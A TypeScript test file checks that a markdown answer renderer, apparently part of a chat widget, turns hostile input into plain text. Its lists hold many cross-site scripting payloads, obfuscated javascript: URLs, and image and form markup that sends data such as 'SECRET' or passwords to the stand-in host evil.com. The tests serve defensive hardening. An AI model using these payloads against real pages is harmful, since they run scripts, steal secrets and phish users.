import { cleanup } from '@testing-library/preact'
import fc from 'fast-check'
import { afterEach, describe, expect, it } from 'vitest'
import { foreignParts } from './allow-list.ts'
import { answerText, renderAnswer } from './render.tsx'

afterEach(cleanup)

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#9;script:alert(1)',
  'java&#10;script:alert(1)',
  'java\tscript:alert(1)',
  'java\u200bscript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#1;javascript:alert(1)',
  'javascript\\:alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'filesystem:https://example.com/x',
  'about:blank',
  'view-source:https://example.com',
  'feed:javascript:alert(1)',
  'jar:https://example.com!/x',
  'intent://x#Intent;end',
  'ms-word:ofe|u|https://evil',
  'chrome://settings',
  'ws://evil.com',
  '//evil.com',
  '\\\\evil.com',
  '/\\evil.com',
  '/logout',
  '#clobber',
  'https:evil.com',
  'https:javascript:alert(1)',
  'https://bank.com@evil.com',
] as const

const SYNTAXES: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `[x](${url} "title")`,
  (url) => `![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `[r]\n\n[r]: <${url}>`,
  (url) => `![r]\n\n[r]: ${url}`,
  (url) => `<${url}>`,
  (url) => `${url}`,
  (url) => `| a |\n|---|\n| [x](${url}) |`,
  (url) => `<a href="${url}">x</a>`,
]

/** Markup that runs, loads, styles, clobbers or imitates in renderers that let it through. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src=https://evil.com></script>',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.com/a 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,x"></object>',
  '<embed src="https://evil.com/x.swf">',
  '<style>*{background:url(https://evil.com)}</style>',
  '<link rel=stylesheet href=https://evil.com>',
  '<link rel=prefetch href=https://evil.com>',
  '<meta http-equiv=refresh content="0;url=https://evil.com">',
  '<base href=https://evil.com>',
  '<form action=https://evil.com><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video poster=https://evil.com/a.png><source onerror=alert(1)></video>',
  '<audio src=https://evil.com autoplay>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a id=config name=config class=composer style="position:fixed">x</a>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<parley-chat endpoint=https://evil.com></parley-chat>',
  '<slot name=x></slot>',
  '<p is=x-y contenteditable draggable=true>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="https://evil.com"?>',
  '<a href="java\nscript:alert(1)">x</a>',
  '```x" onload="alert(1)\ncode\n```',
  '``` <img/src/onerror=alert(1)>\ncode\n```',
  '~~~constructor\ncode\n~~~',
  '```__proto__\ncode\n```',
  '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://example.com/"onclick="alert(1))',
  '[x](<https://example.com/" onclick=alert(1)>)',
  '![" onerror="alert(1)](https://evil.com/x)',
  '![x](https://evil.com/x "\\" onerror=\\"alert(1)")',
  '[__proto__]\n\n[__proto__]: javascript:alert(1)',
  '[constructor]\n\n[toString]',
  '&constructor; &__proto__; &toString;',
  '99999999999. x',
  '999999999. x',
  '[x]: data:text/html,x\n\n[x]',
  '- [x] <input type=text>',
  '\u202egpj.exe [x](https://example.com/\u202egpj.exe)',
  '\u{e0041}\u{e0042} hidden',
  '\u001b[31mred\u001b[0m `\u001b[2J`',
  '**<b onclick=alert(1)>x</b>**',
  '| <img src=x onerror=alert(1)> | `<script>` |\n|---|---|\n| </td><script>alert(1)</script> | x |',
] as const

function check(text: string): Element {
  const { container, show } = renderAnswer(text)
  expect(foreignParts(container), text).toEqual([])
  expect(container.querySelector('img'), text).toBeNull()
  cleanup()
  const streamed = renderAnswer('', true)
  for (let at = 3; at < text.length + 3; at += 3) {
    streamed.show(text.slice(0, at))
    expect(foreignParts(streamed.container), text.slice(0, at)).toEqual([])
    expect(streamed.container.querySelector('img'), text).toBeNull()
  }
  void show
  return container
}

describe('untrusted text', () => {
  it('M2 M3 M7 makes no link and no image of any forbidden address in any syntax', () => {
    expect(SCHEMES.length * SYNTAXES.length).toBeGreaterThanOrEqual(300)
    for (const url of SCHEMES) {
      for (const syntax of SYNTAXES) {
        const text = syntax(url)
        const { container } = renderAnswer(text)
        for (const link of container.querySelectorAll('a[href]')) {
          // A bare address inside the text may be a link of its own, but only to where it says.
          const href = link.getAttribute('href') ?? ''
          expect(href, text).toMatch(/^https?:\/\/(?:example|evil|bank)\.?/)
          expect(new URL(href).username, text).toBe('')
        }
        cleanup()
        check(text)
        cleanup()
      }
    }
  }, 120_000)

  it('M1 M13 M14 M15 M16 shows markup as text and never makes a tag, an attribute or a class of it', () => {
    for (const payload of PAYLOADS) {
      for (const text of [
        payload,
        `text ${payload} text`,
        `> - ${payload}`,
        `**${payload}**`,
        `# ${payload}`,
      ]) {
        check(text)
        cleanup()
      }
    }
  }, 120_000)

  it('M1 shows the tags themselves', () => {
    for (const tag of [
      '<script>alert(1)</script>',
      '<svg onload=alert(1)>',
      '<img src=x onerror=alert(1)>',
    ]) {
      expect(answerText(renderAnswer(`a ${tag} b`).container)).toBe(`a ${tag} b`)
      cleanup()
    }
  })

  it('M8 drops characters that hide text or turn it around', () => {
    const { container } = renderAnswer(
      'a\u{e0041}\u{e007f}b\u202ec\u2066d\u2063e &#x202e;f `\u202eg`\n\n```\n\u202eh\n```\n',
    )
    expect(container.textContent).not.toMatch(/[\u202a-\u202e\u2060-\u206f]|\udb40/)
    expect(answerText(container)).toContain('abcde f g')
  })

  it('M3 leaves no address in an attribute that loads by itself', () => {
    const text =
      '![a](https://evil.com/?q=SECRET) ![b][r] [![c](https://evil.com/c)](https://evil.com) <img src="https://evil.com/d">\n\n[r]: https://evil.com/e\n'
    const { container } = renderAnswer(text)
    for (const name of ['src', 'srcset', 'background', 'poster', 'data', 'style', 'ping']) {
      expect(container.querySelector(`[${name}]`), name).toBeNull()
    }
  })

  it('makes only listed elements of any text, keeps its letters, and never throws', () => {
    const fragment = fc.constantFrom(
      ...'* _ ** ~~ ` ``` ~~~ [ ] ( ) ![ < > </ & ; # - + 1. | \\ ! : / " \' \n  \t \r = a b word https://x.example/ javascript: www.x.com me@x.com <b> </b> <!-- --> &amp; &#x41; [x]: - [ ] |-| 😀 \u202e \0 ]( ![](  [1] $ ...'.split(
        / (?! )/,
      ),
      '\n\n',
      '    ',
      '\n- ',
      '\n> ',
      '\n| a | b |\n|---|---|\n',
    )
    const text = fc.array(fragment, { maxLength: 60 }).map((parts) => parts.join(''))
    fc.assert(
      fc.property(text, (value) => {
        const { container } = renderAnswer(value)
        expect(foreignParts(container)).toEqual([])
        // Definitions, addresses, titles, info strings and alternative texts aside, every word is shown.
        if (!/[[\]()`~<&|]/.test(value)) {
          const words = (shown: string) => shown.replace(/[^\p{L}\p{Extended_Pictographic}]/gu, '')
          expect(words(answerText(container))).toBe(words(value))
        }
        cleanup()
      }),
      { numRuns: 400 },
    )
  }, 60_000)

  it('makes only listed elements of any characters at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (value) => {
        const { container } = renderAnswer(value)
        expect(foreignParts(container)).toEqual([])
        cleanup()
      }),
      { numRuns: 200 },
    )
  }, 60_000)
})
